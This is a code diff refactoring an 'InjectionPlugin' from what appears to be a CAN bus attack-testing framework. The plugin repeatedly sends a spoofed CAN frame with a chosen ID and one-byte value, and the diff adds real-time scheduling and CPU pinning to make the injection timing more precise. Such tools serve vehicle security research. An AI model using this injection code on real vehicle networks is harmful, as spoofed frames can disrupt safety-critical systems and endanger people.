@@ -1,8 +1,7 @@
 # attacks/plugins/injection_plugin.py
-import time
 from typing import Dict, Any
 from attacks.plugin_base import AttackPlugin
-from utils.can_bus import make_bus
+from utils.can_bus import parse_can_id, SINGLE_BYTE
 import can
 
 class InjectionPlugin(AttackPlugin):
@@ -11,17 +10,26 @@ class InjectionPlugin(AttackPlugin):
     config keys:
       channel: (str) e.g. 'vcan0' or None for virtual
       bustype: 'socketcan' or 'virtual'
-      id: int (CAN ID, default 0x100)
+      shared_bus: already-open can.BusABC to use instead of bustype/channel
+      id: int or hex str (CAN ID, default 0x100)
       value: int payload single byte (default 220)
       interval: float seconds between messages (default 0.1)
       duration: seconds total run-time (default None => run until stopped)
+      realtime: bool, run the send thread under SCHED_FIFO with locked memory
+      rt_priority: int SCHED_FIFO priority when realtime (default 80)
+      cpu: int CPU to pin the send thread to (optional)
     """
 
+    def configure(self, config: Dict[str, Any]):
+        super().configure(config)
+        if "id" in self.config:
+            self.config["id"] = parse_can_id(self.config["id"])
+
     def _run(self):
         cfg = self.config
         bustype = cfg.get("bustype", "virtual")
         channel = cfg.get("channel", None)
-        can_id = int(cfg.get("id", 0x100))
+        can_id = cfg.get("id", 0x100)
         val = int(cfg.get("value", 220))
         interval = float(cfg.get("interval", 0.1))
         duration = cfg.get("duration", None)
@@ -29,30 +37,15 @@ class InjectionPlugin(AttackPlugin):
         if self.dry_run:
             print(f"[InjectionPlugin] DRY RUN: would inject id=0x{can_id:x} value={val}")
             # emulate behavior for logs
-            start = time.time()
-            while not self._stop_event.is_set():
-                print(f"Injected {val}")
-                time.sleep(interval)
-                if duration and (time.time() - start) >= duration:
-                    break
+            self._pace(f"Injected {val}", interval, duration)
             return
 
-        # make a bus (uses utils.make_bus, which handles interface/bustype differences)
-        bus = make_bus(channel=channel, bustype=bustype)
-        start = time.time()
+        # shared bus if the orchestrator passed one, else a fresh one from utils.make_bus
+        bus = self._get_bus()
+        self._enter_realtime()
         print(f"[InjectionPlugin] starting injection id=0x{can_id:x} value={val} on {bustype}/{channel}")
 
-        while not self._stop_event.is_set():
-            data = bytes([val])
-            msg = can.Message(arbitration_id=can_id, data=data, is_extended_id=False)
-            try:
-                bus.send(msg)
-            except Exception as e:
-                print(f"[InjectionPlugin] send error: {e}")
-            # small log for console
-            print(f"Injected {val}")
-            time.sleep(interval)
-            if duration and (time.time() - start) >= duration:
-                break
+        msg = can.Message(arbitration_id=can_id, data=SINGLE_BYTE[val & 0xFF], is_extended_id=False)
+        sent = self._pace(f"Injected {val}", interval, duration, bus.send, frames=[msg])
 
-        print("[InjectionPlugin] finished")
+        print(f"[InjectionPlugin] finished ({sent} frames)")